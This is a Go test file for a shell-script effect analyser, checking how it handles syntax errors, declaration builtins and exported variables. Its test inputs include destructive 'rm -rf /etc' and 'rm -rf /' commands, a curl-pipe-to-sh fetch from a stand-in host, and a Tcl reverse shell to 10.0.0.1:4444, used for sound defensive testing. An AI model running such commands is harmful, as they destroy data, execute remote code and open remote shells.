package effects

import (
	"strings"
	"testing"
)

// TestShellSyntaxErrorLate: statements are read as the parser gives them,
// but a script with a syntax error anywhere is still read as one Unknown
// and nothing else: what its first statements gave is taken back, and so
// is what they changed (the working directory, the work budget).
func TestShellSyntaxErrorLate(t *testing.T) {
	ctx := Context{Cwd: "/work/proj", Home: "/home/ann", User: "ann"}
	for _, script := range []string{
		"rm -rf /etc\necho ${",
		"cd /tmp; curl https://x.example/a | sh; if then",
		strings.Repeat("cp a b\n", 200) + "rm -rf / )",
	} {
		got := Shell(script, ctx)
		if len(got) != 1 || got[0].Kind != Unknown || !strings.Contains(got[0].Reason(), "syntax not understood") {
			t.Errorf("%q: want one syntax Unknown, got:%s", script[:min(20, len(script))], shDumpEffects(got))
		}
	}
	// Nested: the inner script's first statements are taken back, the
	// outer script's stay, and the outer cd is not undone.
	got := Shell("cd /srv; rm a; bash -c 'rm b; echo ${'; rm c", ctx)
	for _, w := range []Effect{eDel("/srv/a"), eDel("/srv/c"), eUnk()} {
		if !shHasEffect(got, w) {
			t.Errorf("nested: missing %+v; got:%s", w, shDumpEffects(got))
		}
	}
	if shHasEffect(got, eDel("/srv/b")) {
		t.Errorf("nested: the broken inner script's rm b was kept:%s", shDumpEffects(got))
	}
	// A foreign interpreter's code typed after it is still scanned.
	got = Shell("tclsh\nset s [socket 10.0.0.1 4444]\nexec /bin/sh <@$s >@$s 2>@$s\n", ctx)
	if !shHasEffect(got, eUnk()) {
		t.Errorf("tclsh: no Unknown:%s", shDumpEffects(got))
	}
}

// TestShellDeclExpandsOnce: a declaration builtin's arguments are expanded
// once, all before it assigns, as bash does: a command substitution in a
// value is one Run, and B=$A reads the A from before the builtin.
func TestShellDeclExpandsOnce(t *testing.T) {
	ctx := Context{Cwd: "/work/proj", Home: "/home/ann", User: "ann"}
	for _, c := range []struct {
		script string
		runs   int
	}{
		{`export OUT="dist/$(git rev-parse --short HEAD)"`, 1},
		{`local A=$(git rev-parse HEAD) B=$(git rev-parse HEAD)`, 2},
		{`declare -x V="$(git describe)"; echo "$V"`, 1},
	} {
		n := 0
		for _, e := range Shell(c.script, ctx) {
			if e.Kind == Run && e.Program == "git" {
				n++
			}
		}
		if n != c.runs {
			t.Errorf("%s: %d runs of git, want %d", c.script, n, c.runs)
		}
	}
	got := Shell(`A=0; export A=1 B=$A; rm -rf "/srv/x$B"; rm -rf "/srv/y$A"`, ctx)
	for _, w := range []Effect{eDelR("/srv/x0"), eDelR("/srv/y1")} {
		if !shHasEffect(got, w) {
			t.Errorf("missing %+v; got:%s", w, shDumpEffects(got))
		}
	}
	if shHasEffect(got, eDelR("/srv/x1")) {
		t.Errorf("B read after the builtin's own assignment of A:%s", shDumpEffects(got))
	}
}

// TestShellDeclExportFlag: an option word of declare that exports only
// once expanded (-{a..z} gives -x) still exports.
func TestShellDeclExportFlag(t *testing.T) {
	ctx := Context{Cwd: "/work/proj", Home: "/home/ann", User: "ann"}
	for _, script := range []string{
		`declare -x D=/etc; sh -c 'rm -rf "$D"'`,
		`declare -{a..z} D=/etc; sh -c 'rm -rf "$D"'`,
		`declare -rx D=/etc; sh -c 'rm -rf "$D"'`,
	} {
		if got := Shell(script, ctx); !shHasEffect(got, eDelR("/etc")) {
			t.Errorf("%s: D not exported:%s", script, shDumpEffects(got))
		}
	}
}
